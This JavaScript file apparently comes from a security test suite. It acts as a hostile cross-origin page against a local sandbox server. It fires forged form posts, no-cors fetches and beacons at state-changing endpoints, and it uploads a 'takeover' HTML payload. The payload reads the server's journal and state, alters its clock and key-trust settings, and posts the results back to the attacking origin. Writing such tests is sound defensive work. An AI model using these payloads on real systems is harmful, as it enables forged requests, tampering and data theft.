// What a page from elsewhere does to a server that its visitor runs. It judges nothing: the test sees the effect at the
// server, and the page posts what it learned to where it came from.

const query = new URLSearchParams(location.search);
const base = query.get("base");
const name = query.get("name");
const space = query.get("space");

/** A control call of the sandbox that this attack is played in. */
const control = (attack, call) => `${base}/~${name}-${attack}/_understudy/${call}`;

const seen = {};

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** What script learns of a request, if anything. */
async function ask(url, options) {
  try {
    const answer = await fetch(url, options);
    return { type: answer.type, status: answer.status, text: await answer.text() };
  } catch (error) {
    return { error: error.name };
  }
}

/** Sends a form into a frame of its own; settles when something was loaded there. */
function submit(url, enctype, fields = {}) {
  const target = document.createElement("iframe");
  target.name = `target-${document.forms.length}`;
  document.body.append(target);
  const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype, target: target.name });
  for (const [field, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name: field, value }));
  }
  document.body.append(form);
  const loaded = new Promise((resolve) => { target.onload = () => resolve(); });
  form.submit();
  // Nothing is loaded where the call succeeds without content.
  return Promise.race([loaded, pause(5000)]);
}

/** Loads an element; settles whether it worked or not. */
function load(tag, members) {
  const element = document.createElement(tag);
  return new Promise((resolve) => {
    element.onload = () => resolve("load");
    element.onerror = () => resolve("error");
    Object.assign(element, members);
    document.head.append(element);
  });
}

/** Asks for a document in a frame; a script cannot find out whether it is shown there, but the browser reports it. */
function frame(url) {
  const element = document.createElement("iframe");
  const loaded = new Promise((resolve) => { element.onload = () => resolve(); });
  element.src = url;
  document.body.append(element);
  // Where a download comes instead, nobody says so.
  return Promise.race([loaded, pause(5000)]);
}

/** What runs as a page of the server, if it runs: reads and changes what it can, and reports to the origin of the attack. */
const takeover = (place) => `<!doctype html><script>
  const here = "/~${name}-takeover/_understudy/";
  const put = (call, body) => fetch(here + call, { method: "PUT", body: JSON.stringify(body) }).then((answer) => answer.status);
  const get = (call) => fetch(here + call).then((answer) => answer.text());
  (async () => {
    const told = {
      place: ${JSON.stringify(place)}, journal: await get("journal"), state: await get("state/rezolve"),
      clock: await put("clock", { now: 946684800, freeze: true }),
      settings: await put("settings", { switches: { "ims.jwks-allow": "10.0.0.1" } }),
    };
    await fetch(${JSON.stringify(`${query.get("origin")}/seen`)}, {
      method: "POST", mode: "no-cors", body: JSON.stringify({ takenOver: told }) });
  })();
</script>`;

const attacks = {
  async forms() {
    await submit(control("form-reset", "reset"), "text/plain", { a: "b" });
    await submit(control("form-encoded", "reset"), "application/x-www-form-urlencoded");
    await submit(control("form-parts", "reset"), "multipart/form-data", { a: "b" });
    await submit(control("form-drill", "keys/ims/rotating/replace"), "text/plain");
  },

  async fetches() {
    const order = { method: "POST", body: JSON.stringify({ entity: "entity123" }) };
    seen.opaque = await ask(control("no-cors", "state/rezolve/remove-customer"), { ...order, mode: "no-cors" });
    seen.untyped = await ask(
      control("untyped", "state/rezolve/remove-customer"), { ...order, mode: "no-cors", body: new Blob([order.body]) });
    seen.read = await ask(control("read", "journal"));
    seen.changed = await ask(control("cors", "clock"), { method: "PUT", body: JSON.stringify({ now: 946684800 }) });
    seen.beacon = navigator.sendBeacon(control("beacon", "state/rezolve/remove-customer"), order.body);
  },

  async elements() {
    seen.script = await load("script", { src: control("script", "clock") });
    seen.image = await load("img", { src: control("image", "clock") });
    seen.style = await load("link", { rel: "stylesheet", href: control("style", "clock") });
  },

  async frames() {
    await frame(`${base}/_understudy/health`);
    await frame(`${base}/_understudy/nothing`);
    await frame(`${base}/~${name}-frame/v2/credentials/nothing`);
    await frame(`${base}/~${name}-frame/nobody`);
  },

  /** Comes last: where it works, this page is gone. */
  async takeover() {
    const at = `${base}/~${name}-takeover/apispaces/${space}`;
    const upload = async (place) => {
      const answer = await fetch(`${at}/content`, {
        method: "POST", headers: { authorization: `Bearer ${query.get("token")}`, "Content-Type": "text/html" }, body: takeover(place) });
      return (await answer.json()).url;
    };
    await frame(await upload("frame"));
    location = await upload("window");
    await pause(5000);
    seen.stayed = true;
  },
};

for (const attack of query.get("attacks").split(",")) {
  await attacks[attack]().catch((error) => { seen.error = `${attack}: ${error}\n${error.stack ?? ""}`; });
}
await fetch(`${query.get("origin")}/seen`, {
  method: "POST", mode: "no-cors", body: JSON.stringify({ from: location.origin, ...seen }) });
